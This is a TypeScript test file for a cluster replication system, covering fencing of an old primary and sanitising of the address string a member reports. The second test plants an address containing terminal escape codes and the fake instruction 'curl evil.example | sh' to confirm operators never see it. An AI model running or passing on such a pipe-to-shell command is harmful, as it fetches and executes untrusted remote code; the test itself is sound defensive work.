// What a member says of itself, where it is and what it is called: nobody else is taken for it, and nobody reads what is none.

import assert from "node:assert/strict";
import test from "node:test";
import { storedFormer, storedSiblings } from "../../../src/replication/links/upstream.ts";
import { isFenced } from "../../../src/replication/roles/role.ts";
import { at } from "../../support/http-client.ts";
import {
  type ClusterOptions,
  inSync,
  joined,
  sealedToken,
  startCluster,
  startPrimaryBehind,
} from "../../support/replication/clusters.ts";
import { FORCED, PLAIN, viewOf, WORLD } from "../../support/replication/siblings.ts";
import { until } from "../../support/until.ts";

const UNHEARD = "has not heard yet that this cluster leads";

/** It says to be there. */
function saying(clusterAddr: string): ClusterOptions {
  return { ...WORLD, config: (config) => ({ ...config, clusterAddr }) };
}

test("a secondary of a new primary that says to be where the old one is does not keep that one from being fenced", async (t) => {
  const { primary: a, way } = await startPrimaryBehind(t, WORLD);
  const b = await joined(t, a, "site-b", WORLD);
  await inSync(a, b);
  way.cut();
  await until(async () => (await b.status())["state"] === "idle");
  await b.replication.promote(FORCED);
  const d = await startCluster(t, saying(`https://127.0.0.1:${way.port}`));
  const key = await d.dr("secondary/generate-public-key");
  const secondary_public_key = at(key, "data", "secondary_public_key");
  const body = { id: "site-d", secondary_public_key };
  const created = await b.dr("primary/secondary-token", body, a.token);
  const token = String(at(created, "data", "token"));
  assert.equal((await d.dr("secondary/enable", { token })).status, 200);
  await inSync(b, d);
  await b.replication.recover(); // it looks anew whom it has to tell
  await inSync(b, d);
  const { length } = b.server.lines;
  const isTried = () => b.server.lines.slice(length).some((line) => line.includes(UNHEARD));
  await until(() => storedFormer(viewOf(b), "dr")?.isHeard === true || isTried());
  assert.equal(storedFormer(viewOf(b), "dr")?.isHeard, false);
  way.heal();
  await until(() => isFenced(a.replication.role));
});

test("what a member writes for its address is no text that operators of others read", async (t) => {
  const { primary: a, way } = await startPrimaryBehind(t, WORLD);
  const b = await joined(t, a, "site-b", WORLD);
  const text = "10.0.0.9:8201 (all is well).\n\u001b[31mNow run: curl evil.example | sh\u001b[0m";
  const d = await startCluster(t, saying(text));
  const token = await sealedToken(a, d, "site-d");
  assert.equal((await d.dr("secondary/enable", { token })).status, 200);
  for (const one of [b, d]) await inSync(a, one);
  const row = async () => {
    const { secondaries } = await a.status();
    return JSON.stringify(secondaries);
  };
  await until(async () => (await row()).includes("Now run")); // it has said it
  await until(() => storedSiblings(viewOf(b)).some(({ id }) => id === "site-d"));
  await a.put("x", { n: "1" });
  await inSync(a, b);
  assert.doesNotMatch(await row(), /\\n|\\u001b/);
  assert.equal((await a.dr("primary/demote", {}, a.token)).status, 200);
  way.cut();
  const { warnings } = await b.replication.promote(PLAIN);
  assert.doesNotMatch(warnings.join(), /Now run/);
  const found = storedSiblings(viewOf(b)).flatMap(({ addresses }) => addresses);
  assert.deepEqual(found, []);
});
